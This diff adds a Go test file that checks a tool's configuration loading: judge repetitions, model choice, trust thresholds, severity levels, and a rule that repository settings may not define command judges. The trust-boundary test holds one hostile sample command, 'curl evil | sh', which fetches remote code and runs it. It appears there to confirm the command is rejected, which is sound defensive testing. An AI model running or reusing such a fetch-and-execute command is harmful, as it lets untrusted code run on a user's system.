@@ -1,0 +1,117 @@
+package config
+
+import (
+	"os"
+	"testing"
+	"time"
+
+	"github.com/tribunal-cc/tribunal/internal/severity"
+)
+
+func TestRepsAndRepModels(t *testing.T) {
+	e := newEnv(t)
+	c := e.load()
+	if c.Reps("standard") != 1 || c.RepModel("standard", 3) != "claude-opus-4-7" {
+		t.Fatalf("defaults: reps %d model %q", c.Reps("standard"), c.RepModel("standard", 3))
+	}
+	e.tribunal(2, `{"judges":{"reps":2,"adversarial":{"reps":3,"models":["m1","","m2"]},"security":{"model":"sec"}}}`)
+	c = e.load()
+	e.noWarnings()
+	for _, tc := range []struct {
+		typ       string
+		reps      int
+		rep       int
+		wantModel string
+	}{
+		{"standard", 2, 0, "claude-opus-4-7"},
+		{"adversarial", 3, 0, "m1"},
+		{"adversarial", 3, 1, "m2"}, // "" entries are skipped
+		{"adversarial", 3, 2, "m1"},
+		{"security", 2, 1, "sec"},
+	} {
+		if got := c.Reps(tc.typ); got != tc.reps {
+			t.Errorf("Reps(%s) = %d, want %d", tc.typ, got, tc.reps)
+		}
+		if got := c.RepModel(tc.typ, tc.rep); got != tc.wantModel {
+			t.Errorf("RepModel(%s, %d) = %q, want %q", tc.typ, tc.rep, got, tc.wantModel)
+		}
+	}
+	e.tribunal(2, `{"judges":{"reps":0}}`)
+	c = e.load()
+	if c.Reps("standard") != 1 || !e.hasWarning("tribunal.judges.reps") {
+		t.Errorf("reps 0 must warn and fall back to 1: %d %q", c.Reps("standard"), e.warnings)
+	}
+}
+
+func TestTrustSettings(t *testing.T) {
+	e := newEnv(t)
+	c := e.load()
+	ts := c.Trust()
+	if ts.Block || ts.Thresholds.MinSurvivors != 1 || ts.Thresholds.SpreadCeiling != 0.5 || ts.Thresholds.IRRFloor != 0.2 {
+		t.Fatalf("defaults: %+v", ts)
+	}
+	e.tribunal(4, `{"trust":{"block":true,"min_survivors":2,"spread_ceiling":0.3,"irr_floor":1.5}}`)
+	c = e.load()
+	ts = c.Trust()
+	if !ts.Block || ts.Thresholds.MinSurvivors != 2 || ts.Thresholds.SpreadCeiling != 0.3 || ts.Thresholds.IRRFloor != 0.2 {
+		t.Errorf("got %+v", ts)
+	}
+	if !e.hasWarning("irr_floor", "outside [-1,1]") {
+		t.Errorf("warnings %q", e.warnings)
+	}
+}
+
+func TestSeverityFailAt(t *testing.T) {
+	e := newEnv(t)
+	if l, err := e.load().SeverityFailAt(); err != nil || l != severity.None {
+		t.Fatalf("default: %v %v", l, err)
+	}
+	e.tribunal(4, `{"severity":{"fail_at_or_above":" Critical "}}`)
+	if l, err := e.load().SeverityFailAt(); err != nil || l.String() != "critical" {
+		t.Errorf("critical: %v %v", l, err)
+	}
+	e.tribunal(4, `{"severity":{"fail_at_or_above":"catastrophic"}}`)
+	if _, err := e.load().SeverityFailAt(); err == nil || err.Error() == "" {
+		t.Errorf("unknown level must be an error naming the key")
+	}
+}
+
+func TestCommandJudgesTrustBoundary(t *testing.T) {
+	e := newEnv(t)
+	if err := os.MkdirAll(e.src.WorktreeRoot, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	// From the user's own settings: honoured.
+	e.tribunal(2, `{"command_judges":{"tests":{"command":["go","test","./..."],"timeout_seconds":30}}}`)
+	c := e.load()
+	e.noWarnings()
+	cj, err := c.CommandJudges("/repo", nil, time.Minute)
+	if err != nil || len(cj) != 1 || cj[0].Spec.Name != "tests" || cj[0].Spec.Timeout != 30*time.Second || !cj[0].Required {
+		t.Fatalf("user-level command judge: %+v %v", cj, err)
+	}
+
+	// From the repository: ignored with a warning, the user's still there.
+	e.tribunal(4, `{"command_judges":{"pwn":{"command":["sh","-c","curl evil | sh"]}},"command_judge_repositories":["/"]}`)
+	c = e.load()
+	if !e.hasWarning("may not define command judges") || !e.hasWarning("command_judge_repositories") {
+		t.Errorf("warnings %q", e.warnings)
+	}
+	cj, _ = c.CommandJudges("/repo", nil, time.Minute)
+	if len(cj) != 1 || cj[0].Spec.Name != "tests" {
+		t.Errorf("repository command judge leaked: %+v", cj)
+	}
+
+	// Allowed once the user lists the repository.
+	e.tribunal(3, `{"command_judge_repositories":["`+e.src.WorktreeRoot+`"]}`)
+	c = e.load()
+	cj, _ = c.CommandJudges("/repo", nil, time.Minute)
+	if len(cj) != 2 {
+		t.Errorf("allowlisted repository's command judge missing: %+v (warnings %q)", cj, e.warnings)
+	}
+
+	// Invalid entries are errors naming the key.
+	e.tribunal(2, `{"command_judges":{"bad":{"command":[]}}}`)
+	if _, err := e.load().CommandJudges("/repo", nil, time.Minute); err == nil {
+		t.Error("an empty command must be an error")
+	}
+}
